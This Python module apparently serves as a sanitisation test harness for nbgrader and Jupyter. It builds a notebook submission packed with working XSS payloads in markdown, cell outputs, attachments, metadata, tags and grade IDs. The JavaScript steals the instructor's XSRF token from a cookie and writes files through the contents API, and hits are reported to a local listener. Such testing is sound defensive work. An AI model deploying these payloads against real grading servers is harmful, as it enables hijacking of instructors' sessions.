"""A submission whose every student-controlled part tries to run script where a graded
notebook is rendered (feedback pages, formgrader, JupyterLab). Not a test module.

Each payload, when it runs, sets three markers: a request to a local listener
(``/hit/<name>``), the page title (``PWNED-<name>``) and, from a page of the Jupyter server,
a file ``pwned-<name>.txt`` written through the contents API with the instructor's XSRF
cookie. Links and forms need a click: the tests click them.
"""

from __future__ import annotations

import base64
import copy
import html
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

PNG_1PX = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
# the payloads expected to fire when nothing is sanitised (at least in one of the renderers)
MUST_FIRE_UNSANITISED = {"md-script", "md-img", "md-svg", "md-iframe", "out-html", "out-markdown", "out-isolated",
                         "out-png-filenames"}


class Listener:
    """Records every request made to 127.0.0.1:<port> (the payloads' first marker)."""

    def __init__(self):
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def _record(self):
                hits.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_GET = do_POST = do_PUT = do_OPTIONS = _record

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def names(self) -> set[str]:
        return {path.split("/hit/", 1)[1].split("?")[0] for path in self.hits if "/hit/" in path}

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def js(port: int, name: str) -> str:
    """The payload: no space, no double quote, no angle bracket (it fits everywhere)."""
    return ("(function(){"
            f"fetch('http://127.0.0.1:{port}/hit/{name}',{{mode:'no-cors'}});"
            f"document.title='PWNED-{name}';"
            f"fetch('/api/contents/pwned-{name}.txt',{{method:'PUT',headers:{{'X-XSRFToken':"
            "(document.cookie.match(/_xsrf=([^;]+)/)||[0,''])[1]},"
            f"body:JSON.stringify({{type:'file',format:'text',content:'{name}'}})}});"
            "})()")


def markdown_payloads(port: int) -> str:
    """A written answer made of every markdown attack."""
    j = lambda name: js(port, name)  # noqa: E731
    srcdoc = html.escape(f"<script>{j('md-iframe')}</script>", quote=True)
    return "\n\n".join([
        "Ma réponse, avec un peu de LoRA : $r=8$.",
        f"<script>{j('md-script')}</script>",
        f'<img src="x" onerror="{j("md-img")}">',
        f'<svg onload="{j("md-svg")}"></svg>',
        f'<iframe srcdoc="{srcdoc}"></iframe>',
        f'<details open ontoggle="{j("md-details")}"><summary>détails</summary>x</details>',
        f'<form action="http://127.0.0.1:{port}/hit/md-form"><button type="submit">Envoyer</button></form>',
        f"<style>@import url(http://127.0.0.1:{port}/hit/md-style);</style>",
        f"[clic javascript](javascript:{j('md-jslink')})",
        f"[clic entité](&#106;avascript:{j('md-entitylink')})",
        f"<javascript:{j('md-autolink')}>",
        f"[lien](http://127.0.0.1:{port}/hit/md-httplink)",
        f"<a href=\"http://127.0.0.1:{port}/hit/md-htmllink\">lien HTML</a>",
        f"![image distante](http://127.0.0.1:{port}/hit/md-remote-img)",
        f"$\\href{{javascript:{j('md-mathjax')}}}{{x}}$",
        "&lt;img src=x onerror=alert(1)&gt; (du texte, pas du HTML)",
    ])


def output_code(port: int) -> str:
    """A code cell whose outputs are every output attack."""
    def img(name: str) -> str:
        return f'<img src=x onerror="{js(port, name)}">'

    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(port, "out-svg")}"/>'
    widget = {"version_major": 2, "version_minor": 0,
              "model_id": f"</script><script>{js(port, 'out-widget')}</script>"}
    filenames = {"filenames": {"image/png": f"http://127.0.0.1:{port}/hit/out-png-filenames"}}
    return "\n".join([
        "from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display",
        f"display(HTML({img('out-html')!r}))",
        f"display(HTML({'<script>' + js(port, 'out-html-script') + '</script>'!r}))",
        f"display(Javascript({js(port, 'out-javascript')!r}))",
        f"display(SVG({svg!r}))",
        f"display(Markdown({img('out-markdown')!r}))",
        f"display(Latex({'$' + chr(92) + 'href{javascript:' + js(port, 'out-latex') + '}{x}$'!r}))",
        f"display(HTML({img('out-isolated')!r}), metadata={{'text/html': {{'isolated': True}}}})",
        f"display({{'image/png': {PNG_1PX!r}, 'text/plain': 'image'}}, raw=True, metadata={filenames!r})",
        f"display({{'application/vnd.jupyter.widget-view+json': {widget!r}, 'text/plain': 'widget'}}, raw=True)",
        f"print({img('out-stream')!r})",
    ])


def error_code(port: int) -> str:
    return f"raise ValueError({'<img src=x onerror=' + chr(34) + js(port, 'error') + chr(34) + '>'!r})"


def attack(nb: dict, port: int) -> dict:
    """``nb`` (a complete tp3_partie1 as a dict) with every attack added; returns it."""
    j = lambda name: js(port, name)  # noqa: E731
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{j("att-svg")}"/>'.encode()
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "q1_written":
            cell["source"] = markdown_payloads(port)
    extra = [
        {"cell_type": "markdown", "metadata": {"tags": ['x" onmouseover="document.title=`PWNED-cell-tags`']},
         "source": "Pièces jointes : ![a](attachment:evil.svg) ![b](attachment:faux.png)",
         "attachments": {"evil.svg": {"image/svg+xml": base64.b64encode(svg).decode()},
                         "faux.png": {"image/png": base64.b64encode(f"<script>{j('att-png')}</script>".encode()).decode()}}},
        {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": output_code(port)},
        {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": error_code(port)},
        # an unknown graded cell: its id reaches the grader's note and formgrader's score input
        {"cell_type": "markdown", "source": "cellule notée inventée",
         "metadata": {"nbgrader": {"grade": True, "solution": True, "locked": False, "points": 1,
                                   "schema_version": 3,
                                   "grade_id": f'x" autofocus onfocus="{j("grade-id")}" y="<img src=x onerror={j("grade-id-note")}>'}}},
    ]
    end = next(i for i, c in enumerate(nb["cells"]) if c["metadata"].get("nbgrader", {}).get("grade_id") == "end")
    for offset, cell in enumerate(extra):
        cell.setdefault("id", f"attack-{offset}")
        nb["cells"].insert(end + offset, cell)
    nb["metadata"]["title"] = f"</title><script>{j('nb-title')}</script>"
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0, "state": {}, "x": f"</script><script>{j('nb-widgets')}</script>"}}
    return nb


def render(nb, template: str) -> str:
    """``nb`` as nbconvert's HTML exporter renders it with ``template``: "classic", nbgrader's
    "formgrade" (formgrader's manual grading page) or "feedback" (nbgrader's stock feedback)."""
    from nbconvert import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers

    bootstrap = Path(handlers.__file__).parent / "static" / "node_modules" / "bootstrap" / "dist" / "css"
    exporter = HTMLExporter(template_name=template, extra_template_basedirs=[handlers.template_path],
                            extra_template_paths=[str(bootstrap)])
    resources = {"base_url": "", "nbgrader": {"notebook": "tp3_partie1", "score": 1, "max_score": 2, "late_penalty": 0},
                 "index": 0, "total": 1, "notebook_id": "tp3_partie1", "assignment_id": "tp3", "student": "x",
                 "submission_id": "1", "notebook_path": "x"}
    nb = copy.deepcopy(nb)
    for cell in nb.cells:  # what nbgrader's GetGrades adds before the feedback template
        meta = cell.metadata.get("nbgrader")
        if meta:
            meta.setdefault("score", 0.0)
            meta.setdefault("points", 1.0)
            meta.setdefault("comment", "")
    page, _ = exporter.from_notebook_node(nb, resources=resources)
    return page
